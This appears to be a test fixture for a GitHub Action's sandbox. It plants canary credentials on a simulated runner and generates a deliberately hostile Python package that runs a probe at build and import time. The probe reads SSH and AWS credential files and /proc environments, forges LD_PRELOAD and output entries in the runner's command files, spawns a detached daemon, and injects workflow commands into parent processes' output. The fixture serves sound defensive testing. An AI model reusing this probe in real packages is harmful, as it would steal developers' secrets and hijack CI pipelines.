/**
 * A simulated runner full of canaries, and a hostile local package that
 * tries to reach them, for the sandbox's end-to-end tests.
 *
 * The runner: a fake HOME (~/.aws/credentials, ~/.ssh/id_rsa, ~/.bashrc), a
 * workspace whose .git/config holds an http extraheader and whose .env holds
 * a secret, the command files (GITHUB_ENV, GITHUB_PATH, GITHUB_STATE,
 * GITHUB_OUTPUT, GITHUB_STEP_SUMMARY) in RUNNER_TEMP/_runner_file_commands
 * and the event payload in RUNNER_TEMP/_github_workflow, as on a hosted
 * runner, and credentials in the action's environment.
 *
 * The package (`./hostile` in requirements.txt, a setuptools project): its
 * setup.py runs the probe at every build step, its `hostile/__init__.py`
 * when the smoke test imports it. The probe looks for canaries in its own
 * environment, in every /proc/<pid>/environ and cmdline it can read, and in
 * the runner's files (paths baked into the package when it is made); it
 * tries to write the command files, ~/.bashrc, the workspace, a .pth file
 * of the interpreter and the host's /tmp; it starts a daemon, connects to a
 * TCP server of the test, prints workflow commands (to its own output, and
 * into that of every ancestor process whose /proc/<pid>/fd/1 it can open),
 * and at import time writes into the layer.
 *
 * What it found goes only where the action legitimately carries output:
 * - build: a `HOSTILE-FINDINGS build <data>` line setup.py prints (pip
 *   shows a build's output with PIP_VERBOSE, which the job sets, as on any
 *   failed build), and the file hostile/_build_findings.txt it adds to the
 *   wheel (so to the layer zip);
 * - import: the module `hostile_report` raises with the findings of the
 *   import, which the smoke test reports as a warning in the log.
 * `<data>` is zlib-compressed JSON in URL-safe base64: a canary the probe
 * found never shows as plain text, so a canary in the log or a zip as plain
 * text is the action's leak, not the probe's report.
 */
import { execFileSync } from 'node:child_process'
import crypto from 'node:crypto'
import fs from 'node:fs'
import net from 'node:net'
import path from 'node:path'
import zlib from 'node:zlib'
import { parseOutputFile } from './action.js'

/** The command files of a runner, as the runner names its variables. */
export const COMMAND_FILES = [
  'GITHUB_ENV',
  'GITHUB_PATH',
  'GITHUB_STATE',
  'GITHUB_OUTPUT',
  'GITHUB_STEP_SUMMARY'
] as const
export type CommandFile = (typeof COMMAND_FILES)[number]

/** Variables of the job that package code must never see (the env canaries, and the runner's files). */
export const FORBIDDEN_VARIABLES = [
  'AWS_ACCESS_KEY_ID',
  'AWS_SECRET_ACCESS_KEY',
  'AWS_SESSION_TOKEN',
  'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
  'ACTIONS_ID_TOKEN_REQUEST_URL',
  'ACTIONS_RUNTIME_TOKEN',
  'GITHUB_TOKEN',
  'DEPLOY_KEY',
  'DATABASE_URL',
  'UV_PUBLISH_TOKEN',
  'SSH_AUTH_SOCK',
  'GITHUB_EVENT_PATH',
  'RUNNER_TEMP',
  ...COMMAND_FILES
]

function hex(bytes: number): string {
  return crypto.randomBytes(bytes).toString('hex')
}

function write(file: string, content: string, mode?: number): void {
  fs.mkdirSync(path.dirname(file), { recursive: true })
  fs.writeFileSync(file, content, mode === undefined ? {} : { mode })
}

/** The files and credentials of one simulated runner, each holding its own canary. */
export interface PlantedRunner {
  /** Every canary value (label → value): none may reach package code, the log, the summary, the outputs or a zip. */
  canaries: Record<string, string>
  /** What all canaries start with (the probe looks for it). */
  prefix: string
  /** The action's environment: the env canaries, HOME, the command files, the event payload. */
  env: Record<string, string>
  home: string
  workspace: string
  runnerTemp: string
  /** Command file → its path (in RUNNER_TEMP/_runner_file_commands). */
  commands: Record<CommandFile, string>
  eventPath: string
  /** Canary files package code must not read: label → path. */
  secretFiles: Record<string, string>
  /** Files package code must not change: path → content when planted. */
  unchangedFiles: Record<string, Buffer>
}

/**
 * A runner below `base`: fake HOME, workspace (requirements.txt: `./hostile`),
 * RUNNER_TEMP with the command files. `pipConfig`: the text of the job's
 * ~/.config/pip/pip.conf (where this machine's local indexes are named).
 */
export function plantRunner(base: string, pipConfig?: string): PlantedRunner {
  const prefix = `lplcanary${hex(6)}`
  const canary = (label: string): string => `${prefix}-${label}-${hex(8)}`
  const canaries: Record<string, string> = {
    AWS_ACCESS_KEY_ID: canary('aws-key-id'),
    AWS_SECRET_ACCESS_KEY: canary('aws-secret'),
    AWS_SESSION_TOKEN: canary('aws-session'),
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: canary('oidc-request-token'),
    ACTIONS_ID_TOKEN_REQUEST_URL: canary('oidc-url'),
    ACTIONS_RUNTIME_TOKEN: canary('runtime-token'),
    GITHUB_TOKEN: canary('ghs-token'),
    DEPLOY_KEY: canary('deploy-key'),
    DATABASE_PASSWORD: canary('db-password'),
    UV_PUBLISH_TOKEN: canary('uv-publish-token'),
    SSH_AUTH_SOCK: canary('ssh-agent'),
    aws_credentials_file: canary('aws-credentials-file'),
    ssh_private_key: canary('ssh-private-key'),
    bashrc: canary('bashrc'),
    git_extraheader: canary('git-extraheader'),
    dotenv: canary('dotenv'),
    event_payload: canary('event-payload')
  }
  const home = path.join(base, 'home')
  const workspace = path.join(base, 'workspace')
  const runnerTemp = path.join(base, 'runner-temp')
  const commandDir = path.join(runnerTemp, '_runner_file_commands')
  const commands = Object.fromEntries(
    COMMAND_FILES.map(name => [
      name,
      path.join(commandDir, `${name.toLowerCase().replace(/^github_/, '')}_${hex(8)}`)
    ])
  ) as Record<CommandFile, string>
  const eventPath = path.join(runnerTemp, '_github_workflow', 'event.json')

  const secretFiles: Record<string, string> = {
    aws_credentials_file: path.join(home, '.aws', 'credentials'),
    ssh_private_key: path.join(home, '.ssh', 'id_rsa'),
    bashrc: path.join(home, '.bashrc'),
    git_extraheader: path.join(workspace, '.git', 'config'),
    dotenv: path.join(workspace, '.env'),
    event_payload: eventPath
  }
  write(
    secretFiles.aws_credentials_file,
    `[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = ${canaries.aws_credentials_file}\n`,
    0o600
  )
  write(
    secretFiles.ssh_private_key,
    `-----BEGIN OPENSSH PRIVATE KEY-----\n${canaries.ssh_private_key}\n-----END OPENSSH PRIVATE KEY-----\n`,
    0o600
  )
  write(secretFiles.bashrc, `export BASHRC_SECRET=${canaries.bashrc}\n`)
  write(
    secretFiles.git_extraheader,
    [
      '[core]',
      '\trepositoryformatversion = 0',
      '[remote "origin"]',
      '\turl = https://github.com/example/app',
      '[http "https://github.com/"]',
      `\textraheader = AUTHORIZATION: basic ${canaries.git_extraheader}`,
      ''
    ].join('\n')
  )
  write(secretFiles.dotenv, `API_KEY=${canaries.dotenv}\n`)
  write(eventPath, JSON.stringify({ secret: canaries.event_payload }))
  write(path.join(workspace, 'requirements.txt'), './hostile\n')
  if (pipConfig !== undefined) write(path.join(home, '.config', 'pip', 'pip.conf'), pipConfig)
  for (const file of Object.values(commands)) write(file, '')

  const env: Record<string, string> = {
    HOME: home,
    AWS_ACCESS_KEY_ID: canaries.AWS_ACCESS_KEY_ID,
    AWS_SECRET_ACCESS_KEY: canaries.AWS_SECRET_ACCESS_KEY,
    AWS_SESSION_TOKEN: canaries.AWS_SESSION_TOKEN,
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: canaries.ACTIONS_ID_TOKEN_REQUEST_TOKEN,
    ACTIONS_ID_TOKEN_REQUEST_URL: `http://127.0.0.1:9/${canaries.ACTIONS_ID_TOKEN_REQUEST_URL}`,
    ACTIONS_RUNTIME_TOKEN: canaries.ACTIONS_RUNTIME_TOKEN,
    GITHUB_TOKEN: canaries.GITHUB_TOKEN,
    DEPLOY_KEY: canaries.DEPLOY_KEY,
    DATABASE_URL: `postgres://app:${canaries.DATABASE_PASSWORD}@db.internal:5432/app`,
    UV_PUBLISH_TOKEN: canaries.UV_PUBLISH_TOKEN,
    SSH_AUTH_SOCK: `/tmp/ssh-${canaries.SSH_AUTH_SOCK}/agent.4242`,
    GITHUB_EVENT_PATH: eventPath,
    ...commands
  }
  const unchangedFiles: Record<string, Buffer> = {}
  for (const file of [
    ...Object.values(commands),
    secretFiles.bashrc,
    path.join(workspace, 'requirements.txt')
  ]) {
    unchangedFiles[file] = fs.readFileSync(file)
  }
  return {
    canaries,
    prefix,
    env,
    home,
    workspace,
    runnerTemp,
    commands,
    eventPath,
    secretFiles,
    unchangedFiles
  }
}

/** What the probe is told when the package is made (baked into hostile/_config.py). */
export interface HostileConfig {
  /** What every canary starts with: the probe reports each string starting with it that it finds. */
  prefix: string
  /** In each daemon's command line, each injected workflow command and each file the probe writes. */
  marker: string
  /** Files to try to read (label → path). */
  read: Record<string, string>
  /** Files to try to append a line to (command files, ~/.bashrc, the workspace's sources). */
  append: string[]
  /** Files to try to create (a new file in the workspace, the host's /tmp, a .pth file of the interpreter). */
  create: string[]
  /** The TCP port on 127.0.0.1 to connect to. */
  port: number
  /** Whether the daemon calls setsid (leaves the process group of the program that started it). */
  daemonSetsid: boolean
  /** Writable places the daemon writes into after its sleep (the layer's work folder). */
  daemonTargets: string[]
}

/** Where a build or an import of the probe reached: the JSON it reports. */
export interface Findings {
  phase: 'build' | 'import'
  /** setup.py's command (egg_info, dist_info, bdist_wheel), or "import". */
  step: string
  pid: number
  uid: number
  home: string | null
  /** The names of the probe's own environment variables. */
  env_names: string[]
  /** Canary strings in the values of its own environment. */
  env_hits: string[]
  procs: Array<{
    pid: number
    comm: string
    cmdline: string
    environ: string
    hits: string[]
    /** Its command line holds dist/index.js: the action's own process. */
    action: boolean
  }>
  /** label → "read" or "error:<errno>", and the canaries in what was read. */
  reads: Record<string, { status: string; hits: string[] }>
  /** path → "written" or "error:<errno>". */
  writes: Record<string, string>
  /** Command files found in the environments of /proc (those holding the canary prefix). */
  discovered: string[]
  net: string
  daemon: string
  /** "<comm>@<depth>" of each ancestor whose output the probe wrote workflow commands into → result. */
  injected: Record<string, string>
  /** Import only: path in the layer → result of the write. */
  layer: Record<string, string>
  errors: string[]
}

/** The probe (hostile/_probe.py): see the file comment. Python 3.8+. */
const PROBE = String.raw`"""Test fixture: tries what package code must not achieve, and records what it could."""
import base64
import errno
import json
import os
import re
import socket
import sys
import zlib

COMMAND_FILES = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")

DAEMON = (
    "import sys, time\n"
    "time.sleep(float(sys.argv[2]))\n"
    "for p in sys.argv[3:]:\n"
    "    try:\n"
    "        with open(p, 'w') as out:\n"
    "            out.write(sys.argv[1])\n"
    "    except Exception:\n"
    "        pass\n"
)


def _err(e):
    code = getattr(e, "errno", None)
    return "error:" + (errno.errorcode.get(code, str(code)) if code else type(e).__name__)


def _read(p, limit=1 << 20):
    with open(p, "rb") as f:
        return f.read(limit)


class Probe:
    def __init__(self, config, phase, step):
        self.c = config
        self.hit = re.compile(re.escape(config["prefix"].encode()) + rb"[A-Za-z0-9-]*")
        self.f = {
            "phase": phase,
            "step": step,
            "pid": os.getpid(),
            "uid": os.getuid(),
            "home": os.environ.get("HOME"),
            "env_names": sorted(os.environ),
            "env_hits": [],
            "procs": [],
            "reads": {},
            "writes": {},
            "discovered": [],
            "net": "",
            "daemon": "",
            "injected": {},
            "layer": {},
            "errors": [],
        }

    def hits(self, data):
        return sorted({m.decode("ascii", "replace") for m in self.hit.findall(data)})

    def guard(self, fn, *args):
        try:
            fn(*args)
        except BaseException as e:  # a probe that breaks must not stop the others
            self.f["errors"].append("%s: %r" % (fn.__name__, e))

    def own_env(self):
        text = "\0".join("%s=%s" % kv for kv in os.environ.items()).encode("utf-8", "replace")
        self.f["env_hits"] = self.hits(text)

    def proc(self):
        found = set()
        for name in sorted(os.listdir("/proc")):
            if not name.isdigit():
                continue
            entry = {"pid": int(name), "comm": "", "cmdline": "", "environ": "", "hits": [], "action": False}
            try:
                entry["comm"] = _read("/proc/%s/comm" % name).decode("utf-8", "replace").strip()
            except OSError as e:
                entry["comm"] = _err(e)
            hits = []
            for part in ("cmdline", "environ"):
                try:
                    data = _read("/proc/%s/%s" % (name, part))
                except OSError as e:
                    entry[part] = _err(e)
                    continue
                entry[part] = "read"
                hits += self.hits(data)
                if part == "cmdline" and b"dist/index.js" in data:
                    entry["action"] = True
                if part == "environ" and self.c["prefix"].encode() in data:
                    # The job this probe runs in: its command files.
                    for var in data.split(b"\0"):
                        key, _, value = var.partition(b"=")
                        if key.decode("ascii", "replace") in COMMAND_FILES and value:
                            found.add(value.decode("utf-8", "replace"))
            entry["hits"] = sorted(set(hits))
            self.f["procs"].append(entry)
        for name in COMMAND_FILES:
            if os.environ.get(name):
                found.add(os.environ[name])
        self.f["discovered"] = sorted(found)

    def reads(self):
        wanted = dict(self.c["read"])
        wanted["~/.aws/credentials"] = os.path.expanduser("~/.aws/credentials")
        wanted["~/.ssh/id_rsa"] = os.path.expanduser("~/.ssh/id_rsa")
        for label, p in sorted(wanted.items()):
            try:
                self.f["reads"][label] = {"status": "read", "hits": self.hits(_read(p))}
            except OSError as e:
                self.f["reads"][label] = {"status": _err(e), "hits": []}

    def writes(self):
        line = "# %s %s %s\n" % (self.c["marker"], self.f["phase"], self.f["step"])
        forged = {
            "GITHUB_ENV": "LD_PRELOAD=/tmp/%s.so\n" % self.c["marker"],
            "GITHUB_PATH": "/tmp/%s-bin\n" % self.c["marker"],
            "GITHUB_OUTPUT": "layer-version-arn=forged-%s\n" % self.c["marker"],
        }
        for p in sorted(set(self.c["append"]) | set(self.f["discovered"])):
            kind = next((k for k in COMMAND_FILES if os.path.basename(p).startswith(k[7:].lower())), None)
            try:
                with open(p, "a") as out:
                    out.write(forged.get(kind, line))
                self.f["writes"][p] = "written"
            except OSError as e:
                self.f["writes"][p] = _err(e)
        for p in self.c["create"]:
            p = p.replace("{phase}", self.f["phase"])
            try:
                with open(p, "w") as out:
                    out.write(line)
                self.f["writes"][p] = "written"
            except OSError as e:
                self.f["writes"][p] = _err(e)

    def net(self):
        try:
            s = socket.create_connection(("127.0.0.1", self.c["port"]), timeout=3)
            s.sendall(("%s %s %s\n" % (self.f["phase"], self.f["step"], self.c["marker"])).encode())
            s.close()
            self.f["net"] = "connected"
        except OSError as e:
            self.f["net"] = _err(e)

    def daemon(self, extra_targets=()):
        tag = "%s-daemon-%s" % (self.c["marker"], self.f["phase"])
        targets = [
            os.path.join(d, "%s-%s.txt" % (tag, self.f["step"]))
            for d in list(self.c["daemonTargets"]) + [os.environ.get("TMPDIR", "/tmp")] + list(extra_targets)
        ]
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                os.close(r)
                if self.c["daemonSetsid"]:
                    os.setsid()
                grandchild = os.fork()
                if grandchild == 0:
                    null = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(null, fd)
                    os.closerange(3, 256)
                    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", DAEMON, tag, "60"] + targets)
                os.write(w, str(grandchild).encode())
            finally:
                os._exit(0)
        os.close(w)
        got = os.read(r, 64).decode()
        os.close(r)
        os.waitpid(pid, 0)
        self.f["daemon"] = "started pid %s (setsid: %s)" % (got, self.c["daemonSetsid"])

    def lines(self, via):
        m = self.c["marker"]
        via = "via %s %s %s" % (via, self.f["phase"], self.f["step"])
        return [
            "::add-mask::hostile-mask-%s" % m,
            "::set-output name=layer-version-arn::forged-%s %s" % (m, via),
            "::warning::injected-%s %s" % (m, via),
            "::stop-commands::hostile%s" % m,
            "::error::after-stop-%s %s" % (m, via),
            "::hostile%s::" % m,
            "::set-env name=LD_PRELOAD::/tmp/forged-%s.so" % m,
        ]

    def inject(self):
        # Its own output: what pip shows of a build (pip -v, or a failed build).
        sys.stdout.write("\n" + "\n".join(self.lines("self@0")) + "\n")
        sys.stdout.flush()
        self.f["injected"]["self@0"] = "written"
        # The output of every ancestor it can open: /proc/<pid>/fd/1, where that is a pipe.
        pid, depth = os.getppid(), 1
        while pid >= 1 and depth <= 6:
            try:
                comm = _read("/proc/%d/comm" % pid).decode().strip()
                cmdline = _read("/proc/%d/cmdline" % pid)
                stat = _read("/proc/%d/stat" % pid).decode()
            except OSError as e:
                self.f["injected"]["pid %d" % pid] = _err(e)
                break
            tag = "%s@%d" % (comm, depth)
            lines = self.lines(tag)
            try:
                target = os.readlink("/proc/%d/fd/1" % pid)
                if not target.startswith("pipe:"):
                    self.f["injected"][tag] = "not a pipe: " + target
                else:
                    fd = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
                    try:
                        os.write(fd, ("\n" + "\n".join(lines) + "\n").encode())
                    finally:
                        os.close(fd)
                    self.f["injected"][tag] = "written"
            except OSError as e:
                self.f["injected"][tag] = _err(e)
            # Not past the action: above it is whatever started it.
            if b"dist/index.js" in cmdline:
                break
            pid = int(stat.rsplit(")", 1)[1].split()[1])
            depth += 1

    def layer(self, package_dir):
        site = os.path.dirname(package_dir)
        m = self.c["marker"]
        attempts = [
            (os.path.join(package_dir, "victim.py"), "a", "VICTIM = 'rewritten at import'\n"),
            (os.path.join(package_dir, "added_%s.py" % m), "w", "ADDED = True\n"),
            (os.path.join(site, "added_%s.py" % m), "w", "ADDED = True\n"),
        ]
        for p, mode, text in attempts:
            try:
                with open(p, mode) as out:
                    out.write(text)
                self.f["layer"][p] = "written"
            except OSError as e:
                self.f["layer"][p] = _err(e)

    def encoded(self):
        data = json.dumps(self.f, sort_keys=True).encode()
        return base64.urlsafe_b64encode(zlib.compress(data, 9)).decode()


def run(config, phase, step, package_dir=None):
    """Every probe; the findings, encoded."""
    p = Probe(config, phase, step)
    p.guard(p.own_env)
    p.guard(p.proc)
    p.guard(p.reads)
    p.guard(p.writes)
    p.guard(p.net)
    p.guard(p.daemon, [package_dir] if package_dir else [])
    if package_dir:
        p.guard(p.layer, package_dir)
    p.guard(p.inject)
    return p.encoded()
`

/** setup.py: runs the probe at each build step, and adds its findings to the wheel. */
const SETUP = String.raw`import importlib.util
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def _load(name, rel):
    spec = importlib.util.spec_from_file_location(name, os.path.join(HERE, rel))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_config = _load("_hostile_config", os.path.join("hostile", "_config.py")).CONFIG
_probe = _load("_hostile_probe", os.path.join("hostile", "_probe.py"))
_step = next((a for a in sys.argv[1:] if not a.startswith("-")), "setup")
REPORT = _probe.run(_config, "build", _step)
print("HOSTILE-FINDINGS build %s" % REPORT)

from setuptools import setup  # noqa: E402
from setuptools.command.build_py import build_py  # noqa: E402


class BuildPy(build_py):
    def run(self):
        super().run()
        with open(os.path.join(self.build_lib, "hostile", "_build_findings.txt"), "w") as out:
            out.write("HOSTILE-FINDINGS build %s\n" % REPORT)


setup(
    name="hostile-dist",
    version="1.0",
    packages=["hostile"],
    py_modules=["hostile_report"],
    cmdclass={"build_py": BuildPy},
)
`

const INIT = String.raw`import os

from . import _config, _probe

REPORT = _probe.run(_config.CONFIG, "import", "import", os.path.dirname(os.path.abspath(__file__)))
`

const REPORT_MODULE = String.raw`import hostile

# The smoke test reports this as a failed import (a warning): the only way
# out of the sandbox for what the import found.
raise RuntimeError("HOSTILE-FINDINGS import %s END" % hostile.REPORT)
`

/** The bytes of hostile/victim.py, which the import tries to change. */
export const VICTIM = "VICTIM = 'original'\n"

/** The hostile project at `dir` (./hostile of the workspace). */
export function makeHostileProject(dir: string, config: HostileConfig): void {
  write(path.join(dir, 'setup.py'), SETUP)
  write(path.join(dir, 'hostile', '__init__.py'), INIT)
  write(path.join(dir, 'hostile', '_probe.py'), PROBE)
  write(path.join(dir, 'hostile', 'victim.py'), VICTIM)
  write(
    path.join(dir, 'hostile', '_config.py'),
    `import json\n\nCONFIG = json.loads(${JSON.stringify(JSON.stringify(config))})\n`
  )
  write(path.join(dir, 'hostile_report.py'), REPORT_MODULE)
}

function decode(data: string): Findings {
  return JSON.parse(zlib.inflateSync(Buffer.from(data, 'base64url')).toString('utf8')) as Findings
}

/** Every report of the probe in `text` (the log, or a findings file from a zip). */
export function findingsIn(text: string, phase: 'build' | 'import'): Findings[] {
  const found: Findings[] = []
  for (const m of text.matchAll(new RegExp(`HOSTILE-FINDINGS ${phase} ([A-Za-z0-9_-]+=*)`, 'g'))) {
    try {
      found.push(decode(m[1]))
    } catch {
      // cut short
    }
  }
  return found
}

/**
 * The lines of `log` the runner would take as workflow commands: each
 * `::stop-commands::<token>` line stops command processing until a line
 * `::<token>::`, as on the runner.
 */
export function activeCommands(log: string): string[] {
  const active: string[] = []
  let token: string | undefined
  for (const raw of log.split('\n')) {
    const line = raw.trim()
    if (token !== undefined) {
      if (line === `::${token}::`) token = undefined
      continue
    }
    const stop = /^::stop-commands::(.+)$/.exec(line)
    if (stop) {
      token = stop[1]
      continue
    }
    if (line.startsWith('::')) active.push(line)
  }
  return active
}

/** pid and command line of every live process (not a zombie) whose command line holds `marker`. */
export function processesWith(marker: string): string[] {
  const found: string[] = []
  for (const name of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(name) || Number(name) === process.pid) continue
    try {
      const cmdline = fs.readFileSync(`/proc/${name}/cmdline`, 'utf8')
      if (!cmdline.includes(marker)) continue
      const state = fs.readFileSync(`/proc/${name}/stat`, 'utf8').split(') ')[1]?.[0]
      if (state !== 'Z') found.push(`${name}: ${cmdline.replace(/\0/g, ' ').slice(0, 200)}`)
    } catch {
      // gone
    }
  }
  return found
}

/** Polls until no live process holds `marker` or `ms` have passed; what is left. */
export async function processesLeft(marker: string, ms = 3000): Promise<string[]> {
  const deadline = Date.now() + ms
  for (;;) {
    const left = processesWith(marker)
    if (left.length === 0 || Date.now() > deadline) return left
    await new Promise(resolve => setTimeout(resolve, 200))
  }
}

/** Kills (SIGKILL) the processes `processesWith` found, by pid: cleanup after a failed check. */
export function killLeft(marker: string): void {
  for (const entry of processesWith(marker)) {
    try {
      process.kill(Number(entry.split(':')[0]), 'SIGKILL')
    } catch {
      // gone
    }
  }
}

export interface Listener {
  port: number
  /** What each connection sent, one entry per connection. */
  received: string[]
  close(): Promise<void>
}

/** A TCP server on 127.0.0.1 that records what each connection sends. */
export async function listen(): Promise<Listener> {
  const received: string[] = []
  const sockets = new Set<net.Socket>()
  const server = net.createServer(socket => {
    sockets.add(socket)
    const index = received.push('') - 1
    socket.on('data', chunk => (received[index] += chunk.toString()))
    socket.on('error', () => undefined)
    socket.on('close', () => sockets.delete(socket))
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return {
    port: address.port,
    received,
    close: async () =>
      await new Promise<void>(resolve => {
        for (const s of sockets) s.destroy()
        server.close(() => resolve())
      })
  }
}

/** The outputs and the job summary the action wrote to the planted command files. */
export function commandResults(runner: PlantedRunner): {
  outputs: Record<string, string>
  outputText: string
  summary: string
} {
  const outputText = fs.readFileSync(runner.commands.GITHUB_OUTPUT, 'utf8')
  return {
    outputs: parseOutputFile(outputText),
    outputText,
    summary: fs.readFileSync(runner.commands.GITHUB_STEP_SUMMARY, 'utf8')
  }
}

/** uid and gid of `name`, made (a system user without a home) when missing. Needs root. */
export function systemUser(name: string): { uid: number; gid: number } {
  const ask = (): { uid: number; gid: number } | undefined => {
    try {
      const uid = Number(execFileSync('id', ['-u', name], { encoding: 'utf8' }).trim())
      const gid = Number(execFileSync('id', ['-g', name], { encoding: 'utf8' }).trim())
      return { uid, gid }
    } catch {
      return undefined
    }
  }
  const found = ask()
  if (found) return found
  execFileSync('useradd', ['--system', '--no-create-home', '--shell', '/usr/sbin/nologin', name])
  const made = ask()
  if (!made) throw new Error(`useradd did not make ${name}`)
  return made
}

/**
 * An executable that starts Node.js as `user` (util-linux setpriv, no
 * supplementary groups): runAction's ACTION_NODE, to run the action as an
 * unprivileged user. A Node.js script, not a shell one: a shell drops the
 * variables whose names are not identifiers (INPUT_LAYER-NAME).
 */
export function nodeAs(dir: string, user: { uid: number; gid: number }): string {
  const script = path.join(dir, 'node-as-user.cjs')
  const setpriv = ['--reuid', String(user.uid), '--regid', String(user.gid), '--clear-groups']
  write(
    script,
    [
      `#!${process.execPath}`,
      "const { spawnSync } = require('node:child_process')",
      `const args = ${JSON.stringify([...setpriv, '--', process.execPath])}.concat(process.argv.slice(2))`,
      "const r = spawnSync('/usr/bin/setpriv', args, { stdio: 'inherit' })",
      'process.exit(r.status === null ? 1 : r.status)',
      ''
    ].join('\n'),
    0o755
  )
  return script
}

/** chown -R, for the files an unprivileged action must own. */
export function chownTree(dir: string, user: { uid: number; gid: number }): void {
  fs.chownSync(dir, user.uid, user.gid)
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name)
    if (entry.isDirectory()) chownTree(full, user)
    else fs.lchownSync(full, user.uid, user.gid)
  }
}
